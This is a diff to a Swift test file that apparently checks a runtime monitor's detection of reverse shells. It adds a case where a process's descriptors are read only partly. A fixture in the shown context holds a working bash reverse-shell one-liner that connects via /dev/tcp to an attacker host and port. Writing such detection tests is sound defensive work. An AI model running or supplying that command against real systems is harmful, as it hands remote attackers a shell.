@@ -103,6 +103,8 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
         case partial
         /// Gone before the first read: capture emits the pid alone.
         case vanished
+        /// Read while exiting: its descriptors closed before they were read (only fd 0 seen, live).
+        case descriptorsCut
     }
 
     private func exec(_ pid: Int32, ppid: Int32, exe: String, argv: [String], fds: [DescriptorInfo], read: Read) -> Event {
@@ -114,6 +116,9 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
             return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), exe: exe, argv: argv, cgroup: cgroup, source: "partial"))
         case .vanished:
             return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), source: "inherited"))
+        case .descriptorsCut:
+            return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(ppid), comm: argv.first.map(ProgramClassifier.baseName),
+                                                      exe: exe, argv: argv, cgroup: cgroup, fds: fds.filter { $0.fd == 0 }, source: "proc"))
         }
     }
 
@@ -217,7 +222,7 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
         let port: UInt16 = 4321
         let argv = ["bash", "-c", "exec 5<>/dev/tcp/\(attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
         let life = interpreterLife(310, exe: "/usr/bin/bash", argv: argv)
-        for commandRead in [Read.complete, .vanished] {
+        for commandRead in [Read.complete, .vanished, .descriptorsCut] {
             var proc: [Timed] = life.start + [
                 Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(311)))),
                 Timed(at: t0 + 11 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(312)))),
